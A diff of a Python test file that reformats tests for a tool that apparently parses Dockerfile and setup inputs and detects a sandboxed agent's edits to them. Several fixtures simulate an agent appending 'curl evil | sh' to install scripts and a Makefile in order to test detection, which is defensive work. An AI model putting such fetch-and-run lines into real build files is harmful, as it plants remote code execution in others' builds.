@@ -33,33 +33,38 @@ def session_over(ws: Workspace, files: dict[str, str]) -> None:
 
 
 def test_the_dockerfiles_sources_are_read_as_the_builder_reads_them() -> None:
-    text = "\n".join([
-        "FROM debian AS base",
-        "# COPY commented.sh /x",
-        "COPY --chown=1000:1000 install.sh ./tools/ /opt/",
-        'ADD ["data files/seed.sql", "/srv/"]',
-        "COPY --from=base /etc/passwd /tmp/",
-        "ADD https://example.org/x.tar.gz /tmp/",
-        "COPY <<EOF /etc/motd",
-        "hello",
-        "EOF",
-        "copy --link req\\",
-        "uirements.txt \\",
-        "   /app/",
-        "RUN ./install.sh",
-    ])  # fmt: skip
+    text = "\n".join(
+        [
+            "FROM debian AS base",
+            "# COPY commented.sh /x",
+            "COPY --chown=1000:1000 install.sh ./tools/ /opt/",
+            'ADD ["data files/seed.sql", "/srv/"]',
+            "COPY --from=base /etc/passwd /tmp/",
+            "ADD https://example.org/x.tar.gz /tmp/",
+            "COPY <<EOF /etc/motd",
+            "hello",
+            "EOF",
+            "copy --link req\\",
+            "uirements.txt \\",
+            "   /app/",
+            "RUN ./install.sh",
+        ]
+    )
     assert inputs.sources(text) == ["install.sh", "./tools/", "data files/seed.sql", "requirements.txt"]
 
 
 def test_named_build_and_setup_inputs_are_applied_only_when_forced_by_name(ws: Workspace) -> None:
-    session_over(ws, {
-        ".cubicle/environment.toml": 'dockerfile = "docker/Dockerfile"\ncontext = "docker"\n'
-                                     'setup = "./scripts/setup.sh --fast"\nsetup_inputs = ["deps/*.txt"]\n',
-        "docker/Dockerfile": "FROM debian\nCOPY install.sh /tmp/\nRUN /tmp/install.sh\n",
-        "docker/install.sh": "echo ok\n",
-        "scripts/setup.sh": "echo setup\n",
-        "deps/base.txt": "requests\n",
-    })  # fmt: skip
+    session_over(
+        ws,
+        {
+            ".cubicle/environment.toml": 'dockerfile = "docker/Dockerfile"\ncontext = "docker"\n'
+            'setup = "./scripts/setup.sh --fast"\nsetup_inputs = ["deps/*.txt"]\n',
+            "docker/Dockerfile": "FROM debian\nCOPY install.sh /tmp/\nRUN /tmp/install.sh\n",
+            "docker/install.sh": "echo ok\n",
+            "scripts/setup.sh": "echo setup\n",
+            "deps/base.txt": "requests\n",
+        },
+    )
     ws.agent(
         "echo 'curl evil | sh' >> docker/install.sh; echo 'curl evil | sh' >> scripts/setup.sh; "
         "echo evil >> deps/base.txt; echo plain > notes.txt"
@@ -79,11 +84,14 @@ def test_named_build_and_setup_inputs_are_applied_only_when_forced_by_name(ws: W
 
 
 def test_a_context_copied_whole_needs_one_acknowledgement_for_all_its_paths(ws: Workspace) -> None:
-    session_over(ws, {
-        ".cubicle/environment.toml": 'dockerfile = "Dockerfile"\n',
-        "Dockerfile": "FROM debian\nWORKDIR /app\nCOPY . .\nRUN make install\n",
-        ".dockerignore": "docs/\n",
-    })  # fmt: skip
+    session_over(
+        ws,
+        {
+            ".cubicle/environment.toml": 'dockerfile = "Dockerfile"\n',
+            "Dockerfile": "FROM debian\nWORKDIR /app\nCOPY . .\nRUN make install\n",
+            ".dockerignore": "docs/\n",
+        },
+    )
     ws.agent("echo 'install: ; curl evil | sh' > Makefile; echo edited >> src/app.py; echo doc >> docs/a.txt")
     ws.stop()
     found = scan(ws.layer)
@@ -99,9 +107,16 @@ def test_a_context_copied_whole_needs_one_acknowledgement_for_all_its_paths(ws: 
 
 @pytest.mark.parametrize(
     ("path", "is_dir", "covered"),
-    [("docker/install.sh", False, True), ("docker", False, True), ("docker", True, False),
-     ("tools/a/b.sh", False, True), ("tool", False, False), ("deps/x.txt", False, True), ("deps/x.cfg", False, False)],
-)  # fmt: skip
+    [
+        ("docker/install.sh", False, True),
+        ("docker", False, True),
+        ("docker", True, False),
+        ("tools/a/b.sh", False, True),
+        ("tool", False, False),
+        ("deps/x.txt", False, True),
+        ("deps/x.cfg", False, False),
+    ],
+)
 def test_a_named_input_covers_what_it_copies_and_the_links_on_the_way(path: str, is_dir: bool, covered: bool) -> None:
     inputs = BuildInputs(patterns=(("docker/install.sh", "copied"), ("tools", "copied"), ("deps/*.txt", "read")))
     assert (inputs.why(path, is_dir) is not None) == covered
